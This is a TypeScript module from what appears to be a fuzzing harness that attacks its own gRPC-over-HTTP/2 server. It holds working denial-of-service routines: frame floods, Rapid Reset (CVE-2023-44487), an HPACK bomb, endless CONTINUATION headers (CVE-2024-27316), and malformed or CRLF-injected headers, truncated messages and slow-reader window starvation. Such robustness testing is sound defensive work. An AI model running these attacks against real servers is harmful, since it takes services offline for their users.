import type { Attacker } from './attacker.ts';
import type { Attack } from './attacks.ts';
import {
  callHeaders,
  empty,
  field,
  flags,
  frame,
  frameTypes,
  headers,
  literal,
  message,
  methods,
  reference,
  settings,
  tableSize,
  uint32,
} from './wire.ts';

/** So many of one frame in one write. */
function many(bytes: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

const ping = frame(frameTypes.ping, flags.none, 0, Buffer.alloc(8));
const perWrite = 1_000;

/** Sends one frame by the ten thousand; sometimes without reading what comes back. */
function flood(bytes: Buffer, times = 30, first: Buffer = empty): Attack {
  return async (attacker) => {
    await attacker.hello();
    if (attacker.pick(2) === 0) attacker.deafen();
    if (first.length > 0) await attacker.send(first);
    await attacker.flood(many(bytes, perWrite), perWrite, times);
    await attacker.linger(200);
  };
}

/** Calls that are opened and reset at once (CVE-2023-44487). */
const rapidReset: Attack = async (attacker) => {
  await attacker.hello();
  let stream = 1;
  for (let write = 0; write < 20; write++) {
    const frames: Buffer[] = [];
    for (let count = 0; count < 200; count++, stream += 2)
      frames.push(headers(stream, callHeaders(methods.workers)), frame(frameTypes.rstStream, 0, stream, uint32(8)));
    if (!(await attacker.send(Buffer.concat(frames), frames.length))) break;
  }
  await attacker.linger(200);
};

/** One entry of the dynamic table, named so often that a small block becomes a huge list. */
const hpackBomb: Attack = async (attacker) => {
  await attacker.hello();
  const entry = literal('x-bomb', 'b'.repeat(4_000), true);
  await attacker.send(headers(1, callHeaders(methods.info, entry)));
  const references = many(reference(62), 16_000);
  const parts = Array.from({ length: 40 }, () => frame(frameTypes.continuation, flags.none, 3, references));
  await attacker.send(frame(frameTypes.headers, flags.none, 3, callHeaders(methods.info)));
  await attacker.flood(Buffer.concat(parts), parts.length, 5);
  await attacker.send(frame(frameTypes.continuation, flags.endHeaders, 3, empty));
  await attacker.linger(300);
};

/** A header block that never ends (CVE-2024-27316). */
const endlessHeaders: Attack = async (attacker) => {
  await attacker.hello();
  await attacker.send(frame(frameTypes.headers, flags.none, 1, callHeaders(methods.info)));
  const payload = attacker.pick(2) === 0 ? empty : literal('x-more', 'm'.repeat(10_000));
  await attacker.flood(many(frame(frameTypes.continuation, flags.none, 1, payload), 100), 100, 100);
  await attacker.linger(300);
};

const hugeHeaders: Attack = async (attacker) => {
  await attacker.hello();
  const block = callHeaders(methods.info, literal('x-huge', Buffer.alloc(3_000_000, 0x68)));
  await attacker.send(frame(frameTypes.headers, flags.none, 1, block.subarray(0, 16_000)));
  for (let at = 16_000; at < block.length; at += 16_000) {
    const last = at + 16_000 >= block.length;
    const part = block.subarray(at, at + 16_000);
    if (!(await attacker.send(frame(frameTypes.continuation, last ? flags.endHeaders : 0, 1, part)))) break;
  }
  await attacker.send(headers(3, callHeaders(methods.info), flags.endStream));
  await attacker.linger(300);
};

const brokenHeaders: Attack = async (attacker) => {
  await attacker.hello();
  const blocks = [
    Buffer.concat([literal('X-Upper', 'x'), callHeaders(methods.info)]),
    callHeaders(methods.info, literal(':late', 'x')),
    callHeaders(methods.info, literal('connection', 'close')),
    callHeaders(methods.info, literal('x-line', 'a\r\nb: c')),
    callHeaders(methods.info, literal('', 'x')),
    literal(':path', methods.info),
    empty,
    callHeaders('no slash'),
    callHeaders(methods.info, reference(3_000)),
    callHeaders(methods.info, tableSize(4_096)),
    Buffer.concat([tableSize(1_000_000), callHeaders(methods.info)]),
    Buffer.from([0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
    callHeaders(methods.info, literal('grpc-timeout', '99999999999H')),
    callHeaders(methods.info, literal('traceparent', 'junk')),
  ];
  await attacker.send(headers(1, blocks[attacker.pick(blocks.length)] ?? empty, flags.endStream));
  await attacker.linger(200);
};

/** Calls that are begun and left, some with half a message. */
const halfOpen: Attack = async (attacker) => {
  await attacker.hello();
  const paths = [methods.solve, methods.status, methods.session, methods.bridge, methods.info];
  for (let write = 0; write < 10; write++) {
    const frames: Buffer[] = [];
    for (let count = 0; count < 100; count++) {
      const stream = (write * 100 + count) * 2 + 1;
      frames.push(headers(stream, callHeaders(paths[attacker.pick(paths.length)] ?? methods.info)));
      if (attacker.pick(2) === 0) frames.push(frame(frameTypes.data, 0, stream, Buffer.from([0, 0, 0, 3, 0, 10])));
    }
    if (!(await attacker.send(Buffer.concat(frames), frames.length))) break;
  }
  await attacker.linger(500 + attacker.pick(1_000));
};

/** Messages that are none: lengths that lie, protobuf that is cut off. */
const brokenMessages: Attack = async (attacker) => {
  await attacker.hello();
  const bodies = [
    Buffer.from([0, 0xff, 0xff, 0xff, 0xff]),
    Buffer.from([1, 0, 0, 0, 1, 7]),
    Buffer.concat([Buffer.from([0]), uint32(40), attacker.bytes(40)]),
    Buffer.concat([Buffer.from([0]), uint32(4), Buffer.from([0x0a, 0xff, 0xff, 0x7f])]),
    empty,
  ];
  let stream = 1;
  for (const path of [methods.solve, methods.status, methods.session, methods.bridge])
    for (const body of bodies) {
      await attacker.send(
        Buffer.concat([headers(stream, callHeaders(path)), frame(frameTypes.data, 1, stream, body)]),
        2,
      );
      stream += 2;
    }
  await attacker.linger(500);
};

/** Very many solves of nothing, most of them left waiting, then gone. */
const solves: Attack = async (attacker) => {
  await attacker.hello();
  const salt = attacker.pick(1e9);
  for (let stream = 1; stream < 400; stream += 2) {
    const body = Buffer.concat([field(1, `fuzz-${salt}-${stream}`), field(6, 'no.such.frontend')]);
    await attacker.send(Buffer.concat([headers(stream, callHeaders(methods.solve)), message(stream, body)]), 2);
    if (attacker.pick(2) === 0) await attacker.send(frame(frameTypes.rstStream, 0, stream, uint32(8)));
  }
  await attacker.linger(500);
};

/** Asks for much and takes nothing: by its window, or by not reading. */
const slowReader: Attack = async (attacker) => {
  const byWindow = attacker.pick(2) === 0;
  await attacker.hello(byWindow ? [[4, 0]] : [[4, 2 ** 31 - 1]]);
  if (!byWindow) attacker.deafen();
  const frames: Buffer[] = [];
  for (let stream = 1; stream < 400; stream += 2) {
    const path = stream % 4 === 1 ? methods.diskUsage : methods.history;
    frames.push(headers(stream, callHeaders(path)), message(stream, empty));
  }
  await attacker.send(Buffer.concat(frames), frames.length);
  await attacker.linger(1_500);
};

/** Reads blobs, and has no window for what is read. */
const slowContent: Attack = async (attacker) => {
  const asking = await attacker.another();
  await asking.hello();
  await asking.send(Buffer.concat([headers(1, callHeaders(methods.contentList)), message(1, empty)]), 2);
  await asking.linger(300);
  const digests = [...asking.said.matchAll(/sha256:[0-9a-f]{64}/g)].map(([digest]) => digest);
  if (digests.length === 0) return;
  await attacker.hello([[4, 0]]);
  const frames: Buffer[] = [];
  for (let stream = 1; stream < 400; stream += 2) {
    const digest = digests[attacker.pick(digests.length)] ?? '';
    frames.push(headers(stream, callHeaders(methods.contentRead)), message(stream, field(1, digest)));
  }
  await attacker.send(Buffer.concat(frames), frames.length);
  await attacker.linger(1_500);
};

/** Grows and shrinks the window of open streams. */
const windowPlay = async (attacker: Attacker): Promise<void> => {
  await attacker.hello();
  await attacker.send(headers(1, callHeaders(methods.history)));
  for (let turn = 0; turn < 200; turn++)
    if (!(await attacker.send(settings([[4, attacker.pick(2) === 0 ? 0 : 2 ** 31 - 1]])))) break;
  await attacker.linger(200);
};

const openCall = headers(1, callHeaders(methods.session));

/** Connections that want too much. */
export const floodAttacks: Record<string, Attack> = {
  pings: flood(ping),
  pingAnswers: flood(frame(frameTypes.ping, flags.ack, 0, Buffer.alloc(8))),
  settings: flood(settings([[3, 100]])),
  settingsAnswers: flood(frame(frameTypes.settings, flags.ack, 0)),
  priorities: flood(frame(frameTypes.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16]))),
  unknownFrames: flood(frame(0x42, 0xff, 1, Buffer.alloc(10))),
  goaways: flood(frame(frameTypes.goaway, 0, 0, uint32(0, 0))),
  windowUpdates: flood(frame(frameTypes.windowUpdate, 0, 0, uint32(1))),
  emptyData: flood(frame(frameTypes.data, 0, 1), 30, openCall),
  paddedData: flood(frame(frameTypes.data, flags.padded, 1, Buffer.alloc(101, 100)), 30, openCall),
  resets: flood(frame(frameTypes.rstStream, 0, 1, uint32(8)), 30, openCall),
  data: flood(frame(frameTypes.data, 0, 1, Buffer.alloc(1_000)), 30, openCall),
  ...{
    rapidReset,
    hpackBomb,
    endlessHeaders,
    hugeHeaders,
    brokenHeaders,
    halfOpen,
    brokenMessages,
    solves,
    slowReader,
    slowContent,
  },
  windowPlay,
};
